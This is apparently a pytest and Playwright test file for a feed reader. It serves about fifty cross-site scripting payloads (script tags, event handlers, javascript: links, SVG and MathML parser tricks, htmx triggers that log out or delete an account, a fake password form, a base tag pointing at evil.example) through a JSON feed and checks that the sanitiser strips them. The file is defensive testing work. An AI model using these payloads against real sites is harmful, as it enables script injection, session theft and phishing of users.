"""Fifty entries that want to run in the reader's browser. None does, even where the browser's own guard is off."""

import json
from collections.abc import Iterator
from html import escape
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.flows.browser.newsstand import Newsstand, open_newsstand
from tests.flows.browser.person import Place, follow, open_page, register
from tests.soak import IS_SOAK

RUN = "window.pwned=1;alert(1);fetch('/pwned')"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt type=module>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=/pwned></script>",
    f"<img src=x onerror={RUN!r}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<img src=x onerror\n=\n{RUN!r}>",
    f"<img/src/onerror={RUN!r}>",
    f"<img srcset='x 1x' onload={RUN!r} onerror={RUN!r}>",
    f"<svg onload={RUN!r}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN!r} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN!r}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN!r}></template>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='JaVa\tScRiPt:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    "<base href='//evil.example/'><script src=pwned></script>",
    "<meta http-equiv=refresh content='0;url=/pwned'>",
    "<link rel=stylesheet href=/pwned><link rel=preload as=fetch href=/pwned>",
    "<style>@import '/pwned'; body { display: none }</style>",
    "<p style='background:url(/pwned);position:fixed;inset:0'>over everything</p>",
    f"<body onload={RUN!r}><frameset onload={RUN!r}>",
    f"<input autofocus onfocus={RUN!r}><select autofocus onfocus={RUN!r}></select>",
    f"<details open ontoggle={RUN!r}><summary>x</summary></details>",
    f"<video onloadstart={RUN!r} src=x><source onerror={RUN!r}></video><audio src=x onerror={RUN!r}>",
    f"<marquee onstart={RUN!r}>x</marquee>",
    "<form action=/pwned id=keys><button autofocus>Log in again</button><input name=password></form>",
    f"<p onpointerenter={RUN!r} onanimationstart={RUN!r} style='animation:x 1s' tabindex=1 onfocus={RUN!r}>x</p>",
    # What is ours and would obey: htmx, and the keys.
    "<div hx-get=/pwned hx-trigger=load>x</div>",
    "<div data-hx-post=/pwned data-hx-trigger='load, every 1s'>x</div>",
    f"<div hx-on:htmx:load={RUN!r} hx-on::load={RUN!r}>x</div>",
    "<a hx-boost=true hx-delete=/account hx-trigger=revealed href=/pwned data-original data-open>x</a>",
    "<button data-key=A data-keys hx-post=/auth/logout hx-trigger=load>x</button>",
    "<div class=line data-line><a data-open href=/auth/logout data-key=s>x</a></div>",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<!--><img src=x onerror={RUN!r}>-->",
    "<img src=x name=body><img id=main><a id=htmx name=htmx href=clobber:x>x</a>",
    "{{ 7 * 7 }}{% include 'account/page.html' %}${7*7}<%= 7*7 %>",
)
TRIED = PAYLOADS if IS_SOAK else PAYLOADS[::4]
FORBIDDEN_TAGS = "script, style, iframe, object, embed, form, input, button, base, meta, link, template, svg, math"


def feed(stand: Newsstand) -> str:
    items = [
        {
            "id": f"{n}",
            # Every other entry is told only by its page, which is hostile in the same way.
            "url": stand.url(f"/{n}.html"),
            "title": f"No {n} {payload}",
            "author": {"name": payload},
            "tags": [payload],
            "summary": payload,
            "content_html": f"<p>Entry {n}</p>{payload}",
            "date_published": f"2026-01-01T00:00:{n:02}Z",
        }
        for n, payload in enumerate(TRIED)
    ]
    odd = {"id": "odd", "url": f"javascript:{RUN}", "title": "Odd link", "content_html": "<p>Odd</p>"}
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": PAYLOADS[0], "items": [*items, odd]})


@pytest.fixture(scope="module")
def stand() -> Iterator[Newsstand]:
    with open_newsstand() as stand:
        prose = "<p>The harbour was calm this morning, and the otters slept on the stones by the quay until noon.</p>"
        pages = {
            f"/{n}.html": (
                "text/html",
                f"<title>{escape(p)}</title><article><h1>Page {n}</h1>{prose * 5}{p}{prose * 5}",
            )
            for n, p in enumerate(TRIED)
        }
        stand.documents = {"/feed.json": ("application/feed+json", feed(stand)), **pages}
        yield stand


def test_nothing_that_a_feed_sends_runs(browser: Browser, place: Place, stand: Newsstand) -> None:
    ran: list[str] = []
    # Without the policy of the page, which would stop most of them: the sanitiser has to do it alone.
    with open_page(browser, place, bypass_csp=True) as page:
        page.on("dialog", lambda dialog: ran.append(dismissed(dialog)))
        # An address may hold the word, as that of one picture does; nobody may be led to it.
        page.on("request", lambda request: ran.append(request.url) if urlsplit(request.url).path == "/pwned" else None)
        register(page)
        follow(page, f"Hostile {PAYLOADS[5]}", stand.url("/feed.json"), PAYLOADS[10])
        seen = [*shown(page, "/dashboard")]
        page.goto("/read?shelf=all")
        opened = articles_of(page)
        for path in ("/read?shelf=all", *opened):
            seen += shown(page, path)
        ran += [str(page.evaluate("window.pwned"))] if page.evaluate("'pwned' in window") else []
        page.goto("/account")

        assert page.url.endswith("/account")  # still logged in

    assert len(opened) >= min(50, len(TRIED))
    assert seen == []
    assert ran == []


def dismissed(dialog: Dialog) -> str:
    dialog.dismiss()
    return f"dialog: {dialog.message}"


def articles_of(page: Page) -> list[str]:
    while page.locator(".lines .more").count():
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        page.wait_for_timeout(100)
    return page.eval_on_selector_all("[data-open]", "links => links.map(link => link.getAttribute('href'))")


def shown(page: Page, path: str) -> list[str]:
    """What of a page does not belong on it."""
    page.goto(path, wait_until="load")
    return [f"{path}: {what}" for what in page.evaluate(WRONG, FORBIDDEN_TAGS)]


WRONG = """(forbidden) => {
  const wrong = [...document.querySelectorAll(`.prose :is(${forbidden})`)].map((one) => one.outerHTML.slice(0, 99));
  for (const one of document.querySelectorAll(".prose *, .line h2 *, .line .meta *, .feed .what *, h1 *")) {
    for (const {name} of one.attributes)
      if (/^(on|style$|srcdoc$|id$|class$)/.test(name) && one.closest(".prose, h1") ||
          name === "name" && one.tagName !== "A" ||  // an anchor's name is a place in the text and hides nothing
          /^(data-)?hx-/.test(name) && one.closest(".prose") || /^on/.test(name)) wrong.push(`${one.tagName} ${name}`);
  }
  for (const link of document.querySelectorAll("main a[href]"))
    if (!["http:", "https:", "mailto:"].includes(link.protocol)) wrong.push(link.href);
  if ("pwned" in window) wrong.push("it ran");
  return wrong;
}"""
